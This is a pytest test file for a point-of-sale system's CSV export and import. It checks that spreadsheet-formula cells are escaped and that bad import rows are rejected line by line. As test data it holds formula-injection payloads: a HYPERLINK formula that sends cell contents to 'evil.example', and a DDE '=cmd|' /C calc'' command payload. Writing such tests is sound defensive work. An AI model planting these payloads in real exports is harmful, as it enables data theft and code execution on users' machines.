"""Hostile CSV: exports no spreadsheet runs as formulas, imports that name the line of
every problem (field size, numbers out of range, a repeated column) and write nothing."""

from __future__ import annotations

import csv
import os
import uuid
from datetime import date
from decimal import Decimal

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from pos.errors import ErrorCode, PosError
from pos.models import Product, StockMovement
from pos.services.catalog.reorder import write_reorder_csv
from pos.services.store.reports import ProductSales, SalesReport, Turnover, write_report_csv
from tests.integration.helpers import within_seconds

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "description": "@SUM(1)",
    "category": "+1+1",
}


def _rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _no_formula_cells(rows):
    return all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)


def _counts(store):
    with Session(store.engine) as s:
        return (
            s.execute(select(func.count(Product.id))).scalar_one(),
            s.execute(select(func.count(StockMovement.id))).scalar_one(),
        )


# -- export -----------------------------------------------------------------------------
def test_export_escapes_formulas_and_round_trips(store, manager, make_product, tmp_path):
    make_product(sku="F-1", **FORMULAS)
    make_product(sku="-5", name="-50% sale", barcode="-123", description="'=x")
    make_product(sku="Q-1", name="'Twas the night", description="a=b, c-d")
    out = tmp_path / "export.csv"
    assert store.product_io.export_csv(manager, out) == 3
    rows = _rows(out)
    assert _no_formula_cells(rows)
    by_sku = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    f1 = by_sku["F-1"]
    assert f1["name"] == "'" + FORMULAS["name"] and f1["category"] == "'+1+1"
    assert f1["description"] == "'@SUM(1)"
    sale = by_sku["'-5"]
    assert (sale["name"], sale["barcode"], sale["description"]) == ("'-50% sale", "'-123", "''=x")
    assert by_sku["Q-1"]["name"] == "'Twas the night"  # nothing to escape: as it is
    assert sale["price"] == "10.00" and sale["stock"] == "10"  # numbers stay numbers

    before = {p.sku: p for p in store.catalog.search(manager, include_inactive=True, sort="sku")}
    result = store.product_io.import_csv(manager, out)
    assert (result.created, result.updated, result.stock_changes) == (0, 3, 0)
    after = {p.sku: p for p in store.catalog.search(manager, include_inactive=True, sort="sku")}
    assert after == before
    assert after["-5"].name == "-50% sale" and after["-5"].description == "'=x"
    again = tmp_path / "again.csv"
    store.product_io.export_csv(manager, again)
    assert again.read_bytes() == out.read_bytes()


def test_export_imports_into_an_empty_catalog_identically(store, manager, make_product, tmp_path):
    make_product(sku="F-1", price="2.50", stock=3, **FORMULAS)
    out = tmp_path / "export.csv"
    store.product_io.export_csv(manager, out)
    original = store.catalog.find_code(manager, "F-1")
    # Rename the SKU in the file: the same row becomes a new product.
    text = out.read_text(encoding="utf-8").replace("\nF-1,", "\n=F-2,", 1)
    (tmp_path / "copy.csv").write_text(text, encoding="utf-8")
    store.product_io.import_csv(manager, tmp_path / "copy.csv")
    copy = store.catalog.find_code(manager, "=F-2")  # a hand-written = start is kept as text
    assert (copy.name, copy.description, copy.category, copy.price, copy.stock_quantity) == (
        original.name,
        original.description,
        original.category,
        Decimal("2.50"),
        3,
    )


def test_reorder_csv_escapes_text_not_numbers(store, manager, make_product, tmp_path):
    make_product(sku="@R-1", name="-cheap", category="=cat", stock=0, low_stock_threshold=3)
    lines = store.reorder.reorder_list(manager)
    out = tmp_path / "reorder.csv"
    assert write_reorder_csv(lines, out) == 1
    rows = _rows(out)
    assert _no_formula_cells(rows)
    assert rows[1] == ["'@R-1", "'-cheap", "'=cat", "0", "0", "3", "6", "6"]


def test_report_csv_escapes_names_and_keeps_negative_numbers(tmp_path):
    pid = uuid.uuid4()
    report = SalesReport(
        start=date(2026, 1, 1),
        end=date(2026, 1, 2),
        days=(),
        order_count=1,
        revenue=Decimal("-3.00"),
        net_sales=Decimal("-3.00"),
        tax=Decimal("0.00"),
        average_order_value=Decimal("-3.00"),
        units_sold=1,
        top_products=(ProductSales(pid, "+S", "=cmd|' /C calc'!A0", 1, Decimal("-3.00")),),
        turnover=(Turnover(pid, "+S", "@x", 1, 2, 1, None),),
        carts_released=0,
        carts_checked_out=1,
        abandonment_rate=Decimal("0.5"),
        failures=(),
        failure_count=0,
        failures_per_100_orders=None,
    )
    out = tmp_path / "report.csv"
    write_report_csv(report, out)
    rows = [r for r in _rows(out) if r]
    assert ["top_products", "'+S", "'=cmd|' /C calc'!A0", "1", "-3.00"] in rows
    assert ["turnover", "'+S", "'@x", "1", "2", "1", ""] in rows
    assert ["summary", "revenue", "-3.00"] in rows  # a number, not text
    assert ["summary", "cart_abandonment_percent", "50.00"] in rows
    assert all(not c or c[0] not in "=+@\t\r" for r in rows for c in r if c != "-3.00")


# -- import -----------------------------------------------------------------------------
def _rejected(store, manager, path):
    before = _counts(store)
    with pytest.raises(PosError) as info:
        store.product_io.import_csv(manager, path)
    assert info.value.code == ErrorCode.VALIDATION_ERROR
    assert _counts(store) == before  # nothing written
    # The preview sees the same problems and writes nothing either.
    preview = store.product_io.preview(manager, path)
    assert not preview.ok and _counts(store) == before
    return {e["line"]: e["reason"] for e in info.value.details["errors"]}


def test_a_field_beyond_the_csv_limit_names_its_line(store, manager, tmp_path):
    path = tmp_path / "big.csv"
    path.write_text(
        "sku,name,price\nOK-1,Fine,1.00\nOK-2,Fine,1.00\nBIG," + "x" * 131_073 + ",1.00\n",
        encoding="utf-8",
    )
    errors = _rejected(store, manager, path)
    assert list(errors) == [4]
    assert "longer than 131,072 characters" in errors[4]


def test_an_unclosed_quote_swallowing_the_file_names_where_it_starts(store, manager, tmp_path):
    rows = "".join(f"R-{i},Row {i},1.00\n" for i in range(10_000))
    path = tmp_path / "quote.csv"
    path.write_text('sku,name,price\nOK-1,Fine,1.00\nQ-1,"Open quote,1.00\n' + rows)
    errors = _rejected(store, manager, path)
    assert list(errors) == [3] and "missing closing quote" in errors[3]


def test_numbers_beyond_their_columns_name_line_and_column(store, manager, tmp_path):
    path = tmp_path / "numbers.csv"
    path.write_text(
        "sku,name,price,stock,low_stock_threshold\n"
        "P-1,Price 2^63 cents,92233720368547758.08,1,1\n"  # line 2
        "P-2,Price,100000000000000000000000,1,1\n"  # line 3
        "S-1,Stock 2^31,1.00,2147483648,1\n"  # line 4
        "S-2,Stock 2^31-1,1.00,2147483647,1\n"  # line 5: fits INTEGER, beyond the stock bound
        "T-1,Threshold,1.00,1,2147483648\n"  # line 6
        "N-1,Negative stock,1.00,-1,1\n"  # line 7
        "OK-1,Fine,1.00,1,1\n",
        encoding="utf-8",
    )
    errors = _rejected(store, manager, path)
    assert sorted(errors) == [2, 3, 4, 5, 6, 7]
    for line in (2, 3):
        assert errors[line].startswith("Price must not be more than 10,000,000.00")
    for line in (4, 5):
        assert errors[line].startswith("Stock must not be more than 1,000,000,000")
    assert errors[6].startswith("Low-stock threshold must not be more than")
    assert errors[7].startswith("Stock must not be negative")


def test_text_beyond_its_column_names_the_line(store, manager, tmp_path):
    path = tmp_path / "text.csv"
    path.write_text(
        "sku,name,price,category,description\n"
        f"{'S' * 65},Long sku,1.00,,\n"
        f"N-1,{'n' * 201},1.00,,\n"
        f"C-1,Cat,1.00,{'c' * 81},\n"
        f"D-1,Desc,1.00,,{'d' * 5001}\n",
        encoding="utf-8",
    )
    errors = _rejected(store, manager, path)
    assert sorted(errors) == [2, 3, 4, 5]
    assert [errors[n].split(" ")[0] for n in (2, 3, 4, 5)] == [
        "SKU",
        "Name",
        "Category",
        "Description",
    ]


@pytest.mark.parametrize(
    ("header", "named"),
    [
        ("sku,name,price,price", "price"),
        ("sku,name,Name,price", "name"),
        ("sku,name,price,stock, stock ", "stock"),
    ],
)
def test_a_repeated_header_column_is_refused_by_name(store, manager, tmp_path, header, named):
    path = tmp_path / "dup.csv"
    cells = ",".join(["A-1", "Apple", "1.00", "2.00", "3"][: header.count(",") + 1])
    path.write_text(f"{header}\n{cells}\n", encoding="utf-8")
    errors = _rejected(store, manager, path)
    assert list(errors) == [1]
    assert errors[1] == f"columns given more than once: {named}"


def test_the_csv_file_itself_must_be_a_regular_file(store, manager, tmp_path):
    fifo = tmp_path / "products.csv"
    os.mkfifo(fifo)
    for path in (fifo, tmp_path):
        before = _counts(store)
        with pytest.raises(PosError) as info:
            within_seconds(5, store.product_io.import_csv, manager, path)
        assert info.value.code == ErrorCode.VALIDATION_ERROR
        assert "not a regular file" in info.value.message
        assert _counts(store) == before


def test_a_file_that_is_not_utf8_names_the_line(store, manager, tmp_path):
    path = tmp_path / "latin1.csv"
    path.write_bytes("sku,name,price\nA-1,Apple,1.00\nB-1,Caf\u00e9,1.00\n".encode("latin-1"))
    with pytest.raises(PosError) as info:
        store.product_io.import_csv(manager, path)
    assert info.value.details["line"] == 3 and "line 3" in info.value.message
